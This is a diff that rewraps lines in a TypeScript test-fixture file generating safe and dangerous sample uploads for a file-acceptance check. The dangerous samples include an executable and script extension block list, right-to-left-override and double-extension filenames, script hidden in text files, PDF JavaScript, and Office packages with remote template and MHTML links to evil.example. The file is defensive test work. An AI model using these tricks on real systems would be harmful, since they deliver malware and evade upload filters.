@@ -32,7 +32,13 @@ export function zipOf(entries: Entries, { encrypted = false, streamed = false } 
     shared.writeUInt16LE(title.length, 22)
     shared.copy(unknown)
     sizes.copy(shared, 10)
-    const local = Buffer.concat([latin('PK\x03\x04'), streamed ? unknown : shared, title, data, ...(streamed ? [latin('PK\x07\x08'), sizes] : [])])
+    const local = Buffer.concat([
+      latin('PK\x03\x04'),
+      streamed ? unknown : shared,
+      title,
+      data,
+      ...(streamed ? [latin('PK\x07\x08'), sizes] : []),
+    ])
     const tail = Buffer.alloc(14)
     tail.writeUInt32LE(at, 10)
     index.push(Buffer.concat([latin('PK\x01\x02'), latin('\x14\0'), shared, tail, title]))
@@ -62,7 +68,11 @@ function tarOf(entries: Entries): Buffer {
 
 /** The form of Office documents of before 2007: a header, and a directory of streams named in UTF-16. */
 const compoundOf = (...streams: readonly string[]): Buffer =>
-  Buffer.concat([latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), Buffer.alloc(504), ...streams.map((stream) => Buffer.from(stream.padEnd(64, '\0'), 'utf16le'))])
+  Buffer.concat([
+    latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
+    Buffer.alloc(504),
+    ...streams.map((stream) => Buffer.from(stream.padEnd(64, '\0'), 'utf16le')),
+  ])
 
 const box = (brand: string, rest = '') => latin(`\0\0\0\x18ftyp${brand}\0\0\x02\0isomiso2${'\0'.repeat(40)}${rest}`)
 const track = (handler: string) => `hdlr${'\0'.repeat(8)}${handler}${'\0'.repeat(12)}`
@@ -72,21 +82,31 @@ const officeOf = (part: string) =>
     [part, '<x/>'],
   ])
 
-const TYPES = (...types: string[]) => `<Types>${types.map((type) => `<Override PartName="/x" ContentType="${type}"/>`).join('')}</Types>`
+const TYPES = (...types: string[]) =>
+  `<Types>${types.map((type) => `<Override PartName="/x" ContentType="${type}"/>`).join('')}</Types>`
 const RELATIONSHIP = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
 /** Office documents that office programs of several makers write, with another part. */
 const packagesOf = (types: string, ...more: Entries): (() => Buffer)[] =>
   ['word/document.xml', 'word/document2.xml', 'word\\document.xml', 'xl/workbook.xml'].flatMap((part) =>
-    [true, false].map((streamed) => () => zipOf([['[Content_Types].xml', types], [part, '<x/>'], ...more], { streamed })),
+    [true, false].map(
+      (streamed) => () => zipOf([['[Content_Types].xml', types], [part, '<x/>'], ...more], { streamed }),
+    ),
   )
-const NORMAL_TEMPLATE = RELATIONSHIP('attachedTemplate', 'file:///C:\\Users\\Anna\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm')
+const NORMAL_TEMPLATE = RELATIONSHIP(
+  'attachedTemplate',
+  'file:///C:\\Users\\Anna\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
+)
 
 const PDF = '%PDF-1.7\n1 0 obj\n%%EOF'
 const WORDS = 'Привет, это результат анализа; ждём ответа'
 /** Windows-1251 of Russian letters and ASCII. */
 const cyrillic1251 = (text: string): Buffer =>
-  Buffer.from([...text].map((letter) => (/[а-яА-Я]/.test(letter) ? (letter.codePointAt(0) ?? 0) - 0x350 : letter.charCodeAt(0) & 0x7f)))
+  Buffer.from(
+    [...text].map((letter) =>
+      /[а-яА-Я]/.test(letter) ? (letter.codePointAt(0) ?? 0) - 0x350 : letter.charCodeAt(0) & 0x7f,
+    ),
+  )
 
 const WELCOME: Readonly<Record<string, readonly (() => Buffer)[]>> = {
   heic: [() => box('heic'), () => box('mif1')],
@@ -112,7 +132,10 @@ const WELCOME: Readonly<Record<string, readonly (() => Buffer)[]>> = {
   docx: [
     () => officeOf('word/document.xml'),
     ...packagesOf(TYPES('application/xml'), ['word/_rels/settings.xml.rels', NORMAL_TEMPLATE]),
-    ...packagesOf(TYPES('application/xml'), ['word/_rels/document.xml.rels', RELATIONSHIP('hyperlink', 'https://genarium.com/')]),
+    ...packagesOf(TYPES('application/xml'), [
+      'word/_rels/document.xml.rels',
+      RELATIONSHIP('hyperlink', 'https://genarium.com/'),
+    ]),
   ],
   xlsx: [() => officeOf('xl/workbook.xml')],
   pptx: [() => officeOf('ppt/presentation.xml')],
@@ -214,8 +237,12 @@ const inAnyCase = (extension: string) => fc.constantFrom(extension, extension.to
 
 const made = (files: typeof WELCOME): fc.Arbitrary<SentFile> =>
   fc
-    .constantFrom(...Object.entries(files).flatMap(([extension, makers]) => makers.map((make) => [extension, make] as const)))
-    .chain(([extension, make]) => fc.tuple(base, inAnyCase(extension)).map(([name, end]) => ({ name: `${name}.${end}`, bytes: make() })))
+    .constantFrom(
+      ...Object.entries(files).flatMap(([extension, makers]) => makers.map((make) => [extension, make] as const)),
+    )
+    .chain(([extension, make]) =>
+      fc.tuple(base, inAnyCase(extension)).map(([name, end]) => ({ name: `${name}.${end}`, bytes: make() })),
+    )
 
 /** Files that people send, whose name fits what they are: to be taken, if only to be handed on. */
 export const welcomeFiles = made(WELCOME)
@@ -224,7 +251,15 @@ export const welcomeFiles = made(WELCOME)
 export const opaqueFiles = made(OPAQUE)
 
 /** Names in which nothing after a dot says what a file is. */
-export const namesWithoutExtension = fc.constantFrom('Анализ от 12.03.2026', 'Иванов И.И', 'v1.2', '1.2.840.113619', 'Заключение.', 'scan 4', 'Dr. Rossi')
+export const namesWithoutExtension = fc.constantFrom(
+  'Анализ от 12.03.2026',
+  'Иванов И.И',
+  'v1.2',
+  '1.2.840.113619',
+  'Заключение.',
+  'scan 4',
+  'Dr. Rossi',
+)
 
 /** A file that is not to be taken, and why. */
 export interface DangerousFile extends SentFile {
@@ -233,14 +268,40 @@ export interface DangerousFile extends SentFile {
 
 const PLAIN = Buffer.from('nothing but text')
 const ENDS: readonly (readonly [DangerousFile['code'], string])[] = [
-  ...['exe', 'scr', 'com', 'bat', 'cmd', 'msi', 'lnk', 'url', 'apk', 'jar', 'dmg', 'iso', 'dll', 'reg', 'one', 'slk'].map((end) => ['fileType', end] as const),
-  ...['js', 'vbs', 'ps1', 'hta', 'wsf', 'sh', 'py', 'php', 'html', 'htm', 'svg', 'mht', 'xhtml'].map((end) => ['fileScript', end] as const),
+  ...[
+    'exe',
+    'scr',
+    'com',
+    'bat',
+    'cmd',
+    'msi',
+    'lnk',
+    'url',
+    'apk',
+    'jar',
+    'dmg',
+    'iso',
+    'dll',
+    'reg',
+    'one',
+    'slk',
+  ].map((end) => ['fileType', end] as const),
+  ...['js', 'vbs', 'ps1', 'hta', 'wsf', 'sh', 'py', 'php', 'html', 'htm', 'svg', 'mht', 'xhtml'].map(
+    (end) => ['fileScript', end] as const,
+  ),
   ...['docm', 'xlsm', 'pptm', 'xlsb', 'xlam', 'dotm'].map((end) => ['fileMacro', end] as const),
 ]
 
 const byName: fc.Arbitrary<DangerousFile> = fc
-  .tuple(base, fc.constantFrom('', '.jpg', '.pdf', '.docx', ' '.repeat(40)), fc.constantFrom(...ENDS), fc.constantFrom('', '.', ' ', '. .', '\u200b'))
-  .chain(([name, middle, [code, end], after]) => inAnyCase(end).map((written) => ({ name: `${name}${middle}.${written}${after}`, bytes: PLAIN, code })))
+  .tuple(
+    base,
+    fc.constantFrom('', '.jpg', '.pdf', '.docx', ' '.repeat(40)),
+    fc.constantFrom(...ENDS),
+    fc.constantFrom('', '.', ' ', '. .', '\u200b'),
+  )
+  .chain(([name, middle, [code, end], after]) =>
+    inAnyCase(end).map((written) => ({ name: `${name}${middle}.${written}${after}`, bytes: PLAIN, code })),
+  )
 
 const turned: fc.Arbitrary<DangerousFile> = fc
   .tuple(base, fc.constantFrom('\u202a', '\u202d', '\u202e', '\u2066', '\u2067'))
@@ -256,14 +317,27 @@ const BY_CONTENT: readonly (readonly [DangerousFile['code'], string, Buffer])[] 
     'dex\n035\0',
     '\0asm\x01\0',
     'L\0\0\0\x01\x14\x02\0',
-  ].flatMap((start) => ['dat', 'txt', 'doc', 'zip'].map((end) => ['fileType', end, latin(`${start}${'\0'.repeat(50)}`)] as const)),
-  ...[HTML, ' \n<html>', '#!/bin/sh\nrm', '<?php echo 1;', 'text <script>alert(1)</script>', '<svg xmlns="http://www.w3.org/2000/svg"/>'].flatMap((text) => [
+  ].flatMap((start) =>
+    ['dat', 'txt', 'doc', 'zip'].map((end) => ['fileType', end, latin(`${start}${'\0'.repeat(50)}`)] as const),
+  ),
+  ...[
+    HTML,
+    ' \n<html>',
+    '#!/bin/sh\nrm',
+    '<?php echo 1;',
+    'text <script>alert(1)</script>',
+    '<svg xmlns="http://www.w3.org/2000/svg"/>',
+  ].flatMap((text) => [
     ['fileScript', 'txt', Buffer.from(text)] as const,
     ['fileScript', 'xls', Buffer.from(`\ufeff${text}`)] as const,
     ['fileScript', 'txt', Buffer.from(`\ufeff${text}`, 'utf16le')] as const,
     ['fileScript', 'csv', Buffer.from(`\ufeff${text}`, 'utf16le').swap16()] as const,
   ]),
-  ['fileScript', 'xml', Buffer.from('<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></x>')],
+  [
+    'fileScript',
+    'xml',
+    Buffer.from('<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></x>'),
+  ],
   ['fileScript', 'pdf', latin('%PDF-1.7\n<< /S /JavaScript /JS (1) >>')],
   ['fileScript', 'pdf', latin('%PDF-1.7\n<< /S /J#61vaScript >>')],
   ['fileScript', 'pdf', latin(`${HTML}%PDF-1.7`)],
@@ -314,13 +388,30 @@ const BY_CONTENT: readonly (readonly [DangerousFile['code'], string, Buffer])[] 
     ...packagesOf(TYPES('application/vnd.ms-excel.macrosheet+xml'), ['xl/sheets/a.xml', 'x']),
     ...packagesOf(TYPES(), ['word/vbaProject.bin', 'x']),
     ...packagesOf(TYPES(), ['xl\\_rels\\workbook.xml.rels', RELATIONSHIP('vbaProject', 'data.bin')]),
-    ...['https://evil.example/x.dotm', '\\\\evil.example\\x.dotm', 'file://evil.example/x.dotm', 'file:///\\\\evil.example\\x.dotm'].flatMap((target) =>
+    ...[
+      'https://evil.example/x.dotm',
+      '\\\\evil.example\\x.dotm',
+      'file://evil.example/x.dotm',
+      'file:///\\\\evil.example\\x.dotm',
+    ].flatMap((target) =>
       packagesOf(TYPES(), ['word/_rels/settings.xml.rels', RELATIONSHIP('attachedTemplate', target)]),
     ),
-    ...packagesOf(TYPES(), ['word/_rels/document.xml.rels', RELATIONSHIP('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html')]),
+    ...packagesOf(TYPES(), [
+      'word/_rels/document.xml.rels',
+      RELATIONSHIP('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html'),
+    ]),
   ].map((make) => ['fileMacro', 'docx', make()] as const),
   ['fileArchive', 'gz', gzipSync(latin(`MZ\x90\0${'\0'.repeat(60)}`))],
-  ...['setup.exe', 'a/b/run.js', 'photo.jpg.scr', 'x.docm', 'classes.dex', 'Новый.bat', 'Foo.app/Contents/MacOS/Foo', 'Make.workflow/'].flatMap((name) => {
+  ...[
+    'setup.exe',
+    'a/b/run.js',
+    'photo.jpg.scr',
+    'x.docm',
+    'classes.dex',
+    'Новый.bat',
+    'Foo.app/Contents/MacOS/Foo',
+    'Make.workflow/',
+  ].flatMap((name) => {
     const entries: Entries = [
       ['report.pdf', PDF],
       [name, 'x'],
